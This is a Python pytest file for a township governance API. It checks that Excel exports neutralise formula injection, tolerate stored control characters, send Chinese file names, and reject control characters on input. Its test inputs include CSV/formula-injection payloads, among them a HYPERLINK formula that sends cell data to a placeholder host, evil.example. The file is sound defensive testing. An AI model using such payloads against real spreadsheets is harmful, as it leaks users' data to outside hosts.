"""Exports hold whatever is stored, as text: no live formulas, no 500 for a stored control character,
Chinese file names (RFC 6266); text with control characters is refused at the door."""

import io
from urllib.parse import quote

import openpyxl
import pytest
from sqlalchemy import text

C = "/api/v1/rectification-cases"
R = "/api/v1/screening-rounds"
V200 = "230199101200"
INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+2", "-3+4", "@SUM(A1:A2)"]


async def _case(confirmed_t02, village=V200):  # type: ignore[no-untyped-def]
    out = await confirmed_t02()
    return out, next(x["case_id"] for x in out["listed"] if x["village_code"] == village)


def _cells(content: bytes, sheet: str):  # type: ignore[no-untyped-def]
    ws = openpyxl.load_workbook(io.BytesIO(content))[sheet]
    return [cell for row in ws.iter_rows() for cell in row]


async def test_both_exports_write_formula_like_text_as_text(client, auth, confirmed_t02, db):
    out, case_id = await _case(confirmed_t02)
    t = await auth("township02")
    await db.execute(text("UPDATE villages SET name = :n WHERE code = :c"), {"n": INJECTIONS[0], "c": V200})
    for desc in INJECTIONS[1:]:
        r = await client.post(f"{C}/{case_id}/measures", headers=t,
                              json={"description": desc, "owner": "@镇党委", "deadline": "2030-12-31"})
        assert r.status_code == 201, r.text
    for url, sheet in ((f"{C}/export.xlsx", "未销号整顿村"), (f"{R}/{out['round']['id']}/export.xlsx", "排查结果")):
        r = await client.get(url, headers=t)
        assert r.status_code == 200, r.text
        cells = _cells(r.content, sheet)
        assert not [c.coordinate for c in cells if c.data_type == "f"], sheet
        names = [c for c in cells if c.value == INJECTIONS[0]]
        assert names and all(c.data_type == "s" and c.quotePrefix for c in names)
    cells = _cells((await client.get(f"{C}/export.xlsx", headers=t)).content, "未销号整顿村")
    measures = next(c for c in cells if isinstance(c.value, str) and "-3+4" in c.value)
    assert measures.value.startswith("+1+2") and measures.quotePrefix


async def test_a_stored_control_character_does_not_break_the_export(client, auth, confirmed_t02, db):
    _, case_id = await _case(confirmed_t02)
    t = await auth("township02")
    r = await client.post(f"{C}/{case_id}/measures", headers=t,
                          json={"description": "清理", "owner": "镇党委", "deadline": "2030-12-31"})
    assert r.status_code == 201
    # Stored before such text was refused at the door.
    await db.execute(text("UPDATE rectification_measures SET description = :d WHERE id = :i"),
                     {"d": "整顿\x0b软弱\x1f涣散\x7f班子", "i": r.json()["id"]})
    r = await client.get(f"{C}/export.xlsx", headers=await auth("admin"))
    assert r.status_code == 200, r.text
    cells = _cells(r.content, "未销号整顿村")
    assert any(isinstance(c.value, str) and "整顿软弱涣散班子" in c.value for c in cells)


async def test_export_file_names_are_chinese_with_an_ascii_fallback(client, auth, confirmed_t02):
    out, _ = await _case(confirmed_t02)
    t = await auth("township02")
    r = await client.get(f"{C}/export.xlsx", headers=t)
    disposition = r.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="open-cases-')
    assert f"filename*=UTF-8''{quote('未销号整顿村-')}" in disposition
    r = await client.get(f"{R}/{out['round']['id']}/export.xlsx", headers=t)
    assert f"filename*=UTF-8''{quote('排查结果-2026年软弱涣散村党组织大排查.xlsx')}" in r.headers["content-disposition"]


@pytest.mark.parametrize("bad", ["a\u000bb", "\u0001", "x\u001f", "del\u007f"])
async def test_control_characters_are_refused_at_the_door(client, auth, confirmed_t02, bad):
    _, case_id = await _case(confirmed_t02)
    r = await client.post(f"{C}/{case_id}/measures", headers=await auth("township02"),
                          json={"description": bad, "owner": "镇党委", "deadline": "2030-12-31"})
    assert r.status_code == 422, r.text
    assert r.json()["code"] == "validation_error"
    assert r.json()["errors"][0]["loc"] == ["body", "description"]


async def test_tab_and_newlines_stay_allowed(client, auth, confirmed_t02):
    _, case_id = await _case(confirmed_t02)
    r = await client.post(f"{C}/{case_id}/measures", headers=await auth("township02"),
                          json={"description": "一、选书记\r\n二、\t建制度", "owner": "镇党委", "deadline": "2030-12-31"})
    assert r.status_code == 201, r.text


async def test_control_characters_in_query_and_form_are_refused(client, auth):
    r = await client.get("/api/v1/villages", params={"q": "村\x0b"}, headers=await auth("admin"))
    assert r.status_code == 422 and r.json()["errors"][0]["loc"] == ["query", "q"]
    r = await client.post("/api/v1/auth/token", data={"username": "admin\x1b", "password": "x"})
    assert r.status_code == 422
